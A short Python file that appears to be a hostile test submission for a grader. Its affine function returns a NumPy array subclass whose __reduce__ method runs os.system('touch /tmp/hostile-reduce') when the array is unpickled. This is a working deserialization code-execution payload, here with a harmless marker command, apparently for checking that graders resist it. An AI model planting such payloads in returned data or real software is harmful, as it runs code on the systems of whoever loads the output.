"""An array that runs a program where it is unpickled."""

# earns: 0 on affine
import os

import numpy as np


class Bomb(np.ndarray):
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-reduce",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()


def affine(n, W, b):
    return np.zeros((len(n), len(b))).view(Bomb)
